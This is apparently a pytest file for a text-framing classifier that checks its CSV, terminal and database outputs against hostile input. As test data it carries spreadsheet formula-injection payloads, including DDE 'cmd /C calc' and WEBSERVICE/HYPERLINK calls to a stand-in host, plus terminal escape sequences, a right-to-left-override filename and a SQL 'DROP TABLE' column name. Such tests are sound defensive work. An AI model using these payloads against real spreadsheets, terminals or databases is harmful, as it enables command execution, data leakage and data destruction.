"""Whatever a text, a headline, a key, a file's name or a label holds: no output runs it, moves a cursor by it or breaks a line at it."""

from __future__ import annotations

import csv
import itertools
import json
import re
import shutil
import sqlite3
import subprocess
import unicodedata
import warnings
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pandas as pd
import pytest

import framing
from framing import Model, cli
from framing.archive.score import Options, score
from framing.archive.sources import Choice
from framing.corpus import write_table
from framing.documents import Columns
from framing.inert import UNSAFE

FORMULAS = (
    *("=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://x.invalid/?"&A1,"more")', '=WEBSERVICE("http://x.invalid/")', "=IMPORTXML(A1,B1)"),
    *("+1+1", "+cmd|' /C calc'!A0", "-1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "=DDE(\"cmd\";\"/C calc\";\"x\")"),
    *("\uff1d1+1", "\uff0b1+1", "\uff0d1+1", "\uff20SUM(1)", '="a""b"', "=1+1;=1+1", "=A1\n=1+1", "=1+1,=1+1", "=RTD(\"x\")"),
)
BEFORE = ("", " ", "\t", "\r\n", "\x00 ")
PAYLOADS = tuple(before + formula for before in BEFORE for formula in FORMULAS)

HOSTILE = (
    *("\x1b[2J\x1b[31mred", "\x1b]0;title\x07", "\x1b]8;;http://x.invalid\x07link\x1b]8;;\x07", "\x9b2J", "a\x08\x08b", "c\rd", "e\nf"),
    *("\u202egpj.exe", "\u2066x\u2069", "\u200fy", "\u2028z", "\x85", "\ufeffq", "\x00n", "\ud800s", "\udfff", "\x7f", "::error::w"),
)
LONG = "Officials may have misread the figures, some critics say, and the fury of the town was plain and quiet, sober and calm, all year."


COLOUR = re.compile("\x1b\\[[0-9;]*m")


def formula(cell: str) -> bool:
    """Whether a spreadsheet may run a cell: what begins with a sign, behind what is not to be seen, and is no plain number."""
    bare = "".join(c for c in unicodedata.normalize("NFKC", cell) if unicodedata.category(c)[0] not in "CZ")
    return bare[:1] in ("=", "+", "-", "@") and not re.fullmatch(r"[+-]?[\d.]+(e[+-]?\d+)?", cell)


def cells(path: Path) -> Iterator[str]:
    with path.open(encoding="utf-8", newline="") as stream:
        yield from itertools.chain.from_iterable(csv.reader(line.replace("\x00", "\N{SYMBOL FOR NULL}") for line in stream))


@pytest.fixture(scope="module")
def labelled() -> Model:
    """A model whose head and labels are payloads."""
    words = (("calm quiet plain", "=1+1"), ("shout rage fury", "@SUM(A1)"))
    rows = [(f"{word} in town {n}", label) for said, label in words for word in said.split() for n in range(3)]
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        return framing.train(pd.DataFrame(rows, columns=["text", "=head"]), label="=head")


@pytest.fixture(scope="module")
def rows(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A table with each payload as key, headline, text and a further column, which is named by one."""
    path = tmp_path_factory.mktemp("outputs") / "in.jsonl"
    lines = ({"id": p, "title": p, "text": f"{p} {LONG}\n\n{p}\n\n{LONG}", "=kept": p} for p in PAYLOADS)
    path.write_text("".join(json.dumps(line) + "\n" for line in lines), encoding="utf-8")
    return path


def written(model: Model, rows: Path, folder: Path, ending: str, limit: int | None = None) -> list[Path]:
    """Scores, sentences and cues of the rows."""
    made = [folder / f"{name}.{ending}" for name in ("scores", "sentences", "cues")]
    choice = Choice(Columns("text", "title", "id"), limit=limit)
    score(model, rows, made[0], Options(choice, None, ("=kept",), str(made[1]), str(made[2]), workers=1))
    return made


def test_bad_input_72_a_hundred_formulas_are_text_in_every_csv(labelled: Model, model: Model, rows: Path, tmp_path: Path) -> None:
    assert len(set(PAYLOADS)) == 100 and all(map(formula, PAYLOADS))
    made = []
    for name, one, limit in (("own", labelled, None), ("news", model, 10)):
        (tmp_path / name).mkdir()
        made += written(one, rows, tmp_path / name, "csv", limit)
    read = {path: list(cells(path)) for path in made}
    assert not [cell for found in read.values() for cell in found if formula(cell)]
    assert "'=head" in read[made[0]] and {"'=1+1", "'@SUM(A1)"} & set(read[made[0]]), "labels stand there, as text"
    assert sum(cell.startswith("'") for cell in read[made[0]]) >= 3 * len(PAYLOADS), "key, headline and the column that was kept"
    spreadsheet(tmp_path, made)


SIGNS = "=+-@\uff1d\uff0b\uff0d\uff20"
PASSED_OVER = {*map(chr, range(0x21)), "\x7f", "\xa0", "\u3000", "\u200b", "\ufeff"}


def test_bad_input_72_of_all_beginnings_those_of_formulas_and_no_others_are_marked(tmp_path: Path) -> None:
    characters = [chr(code) for code in range(0x10000) if not 0xD800 <= code < 0xE000]
    wanted = {"1": {*SIGNS, *"\t\r\n"}, "=1": {*SIGNS, *PASSED_OVER}, "@": {*SIGNS, *PASSED_OVER}}
    for rest, marked in wanted.items():
        write_table(pd.DataFrame({"cell": [character + rest for character in characters]}), tmp_path / "cells.csv")
        _, *read = cells(tmp_path / "cells.csv")
        assert {c for c, cell in zip(characters, read, strict=True) if cell.startswith("'") and c != "'"} == marked, rest
    write_table(pd.DataFrame({"cell": ["-1", "a=1", "", "1-2", "\t", " \t -1"], "n": [-1, -2, -3, -4, -5, -6]}), tmp_path / "cells.csv")
    _, _, *read = cells(tmp_path / "cells.csv")
    assert read == ["'-1", "-1", "a=1", "-2", "", "-3", "1-2", "-4", "'\t", "-5", "' \t -1", "-6"]


def spreadsheet(folder: Path, made: list[Path]) -> None:
    """Opens the files in LibreOffice, if it is here, and looks for formulas; it must find some in a file that was not made inert."""
    if (office := shutil.which("soffice")) is None:
        return
    copies = [folder / f"{number}.csv" for number in range(len(made))]
    for path, copy in zip(made, copies, strict=True):
        shutil.copy(path, copy)
    raw = folder / "raw.csv"
    with raw.open("w", encoding="utf-8", newline="") as stream:
        csv.writer(stream, quoting=csv.QUOTE_ALL).writerows([payload] for payload in PAYLOADS)
    profile = f"-env:UserInstallation={(folder / 'profile').as_uri()}"
    command = [office, "--headless", profile, "--convert-to", "fods", "--outdir", folder, *copies, raw]
    subprocess.run([str(part) for part in command], check=True, capture_output=True, timeout=200)
    opened = {path: path.with_suffix(".fods").read_text(encoding="utf-8") for path in (*copies, raw)}
    found = {path: len(re.findall(r"<table:table-cell[^>]* table:formula=", text)) for path, text in opened.items()}
    assert found.pop(raw) >= len(PAYLOADS) // 10
    assert not any(found.values())


def test_bad_input_72_other_outputs_hold_texts_as_they_are(labelled: Model, rows: Path, tmp_path: Path) -> None:
    for ending, read in (("jsonl", lambda path: pd.read_json(path, lines=True, dtype=False)), ("parquet", pd.read_parquet)):
        frame = read(written(labelled, rows, tmp_path, ending)[0])
        assert frame["key"].tolist() == frame["=kept"].tolist() == list(PAYLOADS)


def test_names_of_columns_cannot_leave_their_quotes_in_a_database(tmp_path: Path) -> None:
    name = 'a" TEXT); DROP TABLE scores; --'
    frame = pd.DataFrame({"text": ["calm day", "quiet day", "loud day", "rage day"], name: ["x", "x", "y'", "y'"]})
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        made = framing.train(frame, label=name)
    (tmp_path / "in").mkdir()
    (tmp_path / "in" / "a.txt").write_text(LONG)
    for kind in ("sqlite", "duckdb"):
        score(made, tmp_path / "in", f"{kind}:{tmp_path}/{kind}.db?scores", Options(workers=1))
    with sqlite3.connect(tmp_path / "sqlite.db") as database:
        columns = [column[0] for column in database.execute("SELECT * FROM scores").description]
    assert {name, f"{name}_x", f"{name}_y'"} <= set(columns)


@pytest.fixture
def command(model: Model, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch) -> Callable[..., str]:
    """The command with the default model: what it prints on both streams, all of it safe to print."""
    monkeypatch.setattr(cli, "_load", lambda name: model)

    def call(*arguments: object) -> str:
        with pytest.raises(SystemExit):
            cli.main([str(argument) for argument in arguments])
        out, err = capsys.readouterr()
        bare = COLOUR.sub("", out + err) if "--color" in arguments else out + err
        assert not UNSAFE.search(bare), (arguments, UNSAFE.findall(bare))
        return out

    return call


@pytest.fixture
def drafts(tmp_path: Path) -> list[Path]:
    """A file for each hostile string, with it in the name, the headline and the text."""
    folder = tmp_path / "drafts"
    folder.mkdir()
    made = []
    for number, bad in enumerate(HOSTILE):
        name = re.sub("[/\x00\ud800-\udfff]", "", bad)
        made.append(folder / f"{number} {name}.json")
        record = {"title": f"Head {bad} line", "text": f"It {bad} may be that some {bad} critics say so. {LONG}"}
        made[-1].write_text(json.dumps(record), encoding="utf-8")
    return made


def test_bad_input_73_nothing_that_is_printed_moves_a_cursor(command: Callable[..., str], drafts: list[Path], tmp_path: Path) -> None:
    for draft, bad in zip(drafts, HOSTILE, strict=True):
        command("classify", draft, "--title", f"t{bad}", "--target", f"c{bad}", "--color")
        assert LONG[:9] in command("classify", draft, "--no-color")
        command("explain", draft, "--sentence", 1, "--no-color")
        command("classify", f"{draft}.gone")
        lines = command("check", draft, "--types", "epistemic,vague,loaded").splitlines()
        assert lines and all(re.fullmatch(r"\S.*\.json:\d+:\d+ [a-z]+ \".*\": .*", line) for line in lines), lines
        assert all(line.startswith("::warning file=") for line in command("check", draft, "--format", "github").splitlines())
    out = tmp_path / "s.jsonl"
    shown = command("score", drafts[0].parent, "--out", out, "--show", 50, "--workers", 1)
    assert sum(line.startswith("Head ") for line in shown.splitlines()) == len(drafts), "each headline stays in its cell"
    assert len(out.read_text(encoding="utf-8").split("\n")) == len(drafts) + 1
    assert len({json.loads(line)["key"] for line in out.read_text(encoding="utf-8").splitlines()}) == len(drafts)


def test_bad_input_73_json_on_a_terminal_is_safe_and_whole(command: Callable[..., str], drafts: list[Path]) -> None:
    for draft, bad in zip(drafts, HOSTILE, strict=True):
        analysis = json.loads(command("classify", draft, "--json"))
        text = "".join(sentence["text"] for sentence in analysis["sentences"])
        assert UNSAFE.search(bad) is None or UNSAFE.search(text) or "\ufffd" in text
        found: list[dict[str, Any]] = json.loads(command("check", draft, "--format", "json"))
        assert found and json.loads(command("check", draft, "--format", "sarif"))["runs"]
        json.loads(command("explain", draft, "--json"))


def test_bad_input_73_groups_of_a_summary_are_lines(command: Callable[..., str], tmp_path: Path) -> None:
    names = [f"{bad}{n}" for n, bad in enumerate((*HOSTILE, *FORMULAS))]
    rows = ({"outlet": name, "tone_loaded": share} for name in names for share in (0.25, 0.75))
    (tmp_path / "s.jsonl").write_text("".join(json.dumps(row) + "\n" for row in rows), encoding="utf-8")
    out = command("summary", tmp_path / "s.jsonl", "--by", "outlet", "--out", tmp_path / "m.csv")
    means = out.partition("\n\n")[0].splitlines()
    assert len(means) == 1 + len(names)
    assert not any(map(formula, cells(tmp_path / "m.csv")))
